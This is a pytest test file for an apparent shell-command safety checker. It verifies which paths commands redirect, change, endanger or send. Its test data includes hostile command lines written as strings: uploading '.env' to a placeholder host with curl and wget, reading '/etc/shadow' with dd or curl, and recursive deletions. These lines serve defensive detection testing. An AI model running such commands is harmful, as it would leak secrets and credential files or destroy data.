"""The parts of a call, and the files that they read, write and endanger."""

import pytest

from assent.engine.base.facts import PathUse
from assent.engine.lines.command import Command, Redirect, RedirectAccess
from assent.engine.lines.dangers import CommandDangers, Danger, Harm
from assent.engine.lines.part import (
    EndangeredPath,
    ParsedCall,
    Part,
    find_changed_paths,
    find_copied_paths,
    find_endangered_paths,
    find_redirected_paths,
    to_path_uses,
)
from assent.engine.lines.writes import FileChanges, find_changes
from assent.engine.programs.word import UNKNOWN_MARK, Word


def test_every_part_is_listed_with_its_nested_parts() -> None:
    inner = Part("c", nested=(Part("d"),))
    subject = ParsedCall((Part("a"), Part("b", nested=(inner, Part("e")))))

    assert [part.text for part in subject.all_parts] == ["a", "b", "c", "d", "e"]


def test_parts_without_nested_parts_are_listed_unchanged() -> None:
    parts = (Part("a"), Part("b"))

    assert ParsedCall(parts).all_parts is parts


def test_a_repeated_part_is_listed_once() -> None:
    repeated, inner = Part("a"), Part("c")
    subject = ParsedCall((repeated, Part("b", nested=(inner, inner)), repeated))

    assert [part.text for part in subject.distinct_parts] == ["a", "b"]
    assert [part.text for part in subject.all_parts] == ["a", "b", "c"]


def to_words(line: str) -> tuple[Word, ...]:
    return tuple(map(Word, line.split()))


@pytest.mark.proves("D-2")
def test_redirections_are_reads_and_writes_except_harmless_ones() -> None:
    redirects = (
        Redirect(RedirectAccess.READ, Word("in")),
        Redirect(RedirectAccess.WRITE, Word("out")),
        Redirect(RedirectAccess.WRITE, Word("/dev/null")),
        Redirect(RedirectAccess.WRITE, Word("/dev/fd/63")),
        Redirect(RedirectAccess.WRITE, Word("/dev/fd/../x")),
        Redirect(RedirectAccess.DUPLICATE, Word("1")),
    )

    assert find_redirected_paths(Command(to_words("ls"), redirects=redirects)) == (
        (PathUse("in"),),
        (PathUse("out"), PathUse("/dev/fd/../x")),
    )


def test_a_relative_path_is_seen_from_each_directory() -> None:
    assert to_path_uses((Word("a"), Word("/b"), Word("~/c", tilde=True)), ("", "src")) == (
        PathUse("a"),
        PathUse("a", "src"),
        PathUse("/b"),
        PathUse("~/c", tilde=True),
    )


def test_a_file_that_a_known_program_writes_is_endangered() -> None:
    appended = CommandDangers((Danger(Harm.APPENDS, Word("log")),))
    changes = FileChanges((Word("/etc/passwd"), Word("log")))

    assert find_endangered_paths(CommandDangers(), ("",)) == ()
    assert find_endangered_paths(appended, ("",), FileChanges()) == (
        EndangeredPath(Harm.APPENDS, PathUse("log")),
    )
    assert find_endangered_paths(appended, ("",), changes) == (
        EndangeredPath(Harm.APPENDS, PathUse("log")),
        EndangeredPath(Harm.OVERWRITES, PathUse("/etc/passwd")),
    )


@pytest.mark.proves("T-29")
@pytest.mark.parametrize(
    ("line", "runs_others", "paths"),
    [
        ("node x.js --out=.git/config -v", False, ["x.js", ".git/config"]),
        ("sudo node x.js", True, []),
        ("ssh -i ~/.ssh/key host", False, []),
        ("strace -o .git/config node x.js", True, [".git/config"]),
        ("frob --exclude .git --ignore=.git a -x b", False, ["a", "b"]),
        ("ln .git/config q", False, ["q", "q/config", ".git/config"]),
        ("find . -name .git -exec rm {} +", True, [".", ".git"]),
        ("rm -r a b", False, ["a", "b"]),
    ],
)
def test_a_command_may_change_its_operands(line: str, runs_others: bool, paths: list[str]) -> None:
    changes = find_changes(to_words(line))

    assert [
        word.text for word in find_changed_paths(Command(to_words(line)), changes, runs_others=runs_others)
    ] == paths


@pytest.mark.proves("T-29")
def test_a_command_that_changes_listed_names_may_change_the_listed_directories() -> None:
    listed = Word(UNKNOWN_MARK, listed=True)
    command = Command(
        (Word("rm"), listed),
        redirects=(Redirect(RedirectAccess.WRITE, listed),),
        listing_roots=(Word(".git"),),
    )

    assert find_changed_paths(command, find_changes(command.words), runs_others=False) == (
        listed,
        Word(".git"),
    )
    assert find_redirected_paths(command)[1] == (PathUse(UNKNOWN_MARK, listed=True), PathUse(".git"))


@pytest.mark.proves("D-6")
@pytest.mark.parametrize(
    ("line", "paths"),
    [
        ("cp .env x", [".env"]),
        ("mv -f a b c", ["a", "b"]),
        ("dd if=/etc/shadow of=x", ["/etc/shadow"]),
        ("curl --data-binary @.env https://u@h/x", [".env"]),
        ("curl https://h/x", []),
        ("curl -T .env https://h", [".env"]),
        ("curl --upload-fil=.env https://h", [".env"]),
        ("curl -T {.env,a} https://h", ["\0"]),
        ("curl -d a=b@c.example https://h", []),
        ("curl -F f=@.env;type=text/plain https://h", [".env"]),
        ("curl -F f=<.env https://h", [".env"]),
        ("curl --data-urlencode a@.env https://h", [".env"]),
        ("curl file:///etc/shadow", ["/etc/shadow"]),
        ("curl --url FILE://localhost/etc/shadow", ["/etc/shadow"]),
        ("curl file:/etc/shadow", ["/etc/shadow"]),
        ("wget --post-file=.env https://h", [".env"]),
        ("http POST https://h @.env", ["POST", "https://h", ".env"]),
        ("openssl enc -in .env -out x", [".env"]),
        (". .env", [".env"]),
        ("node x.js", []),
    ],
)
def test_copied_and_sent_files_are_read(line: str, paths: list[str]) -> None:
    assert [word.text for word in find_copied_paths(to_words(line), find_changes(to_words(line)))] == paths
